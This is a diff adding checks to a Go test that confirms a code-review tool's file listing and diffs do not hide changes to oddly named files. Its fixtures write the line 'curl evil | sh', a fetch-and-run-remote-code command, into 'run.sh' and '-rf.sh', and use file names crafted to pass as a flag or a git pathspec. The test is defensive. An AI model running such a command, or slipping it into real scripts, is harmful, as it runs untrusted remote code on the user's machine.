@@ -600,6 +600,15 @@ func TestNoAttributeOrNameHidesAChangeFromReview(t *testing.T) {
 	write(t, repo, "run.sh", "curl evil | sh\n")
 	write(t, repo, "-rf.sh", "curl evil | sh\n")
 	write(t, repo, ":(glob)*", "magic\n")
+	c, err := List(ctx, r, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range c.Files {
+		if f.Path == "run.sh" && (f.Binary || f.Additions != 1) {
+			t.Fatalf("the listing calls run.sh binary: %+v", f)
+		}
+	}
 	for _, p := range []string{"run.sh", "-rf.sh", ":(glob)*"} {
 		d, _, err := Diff(ctx, r, "", p, 1<<20)
 		if err != nil {
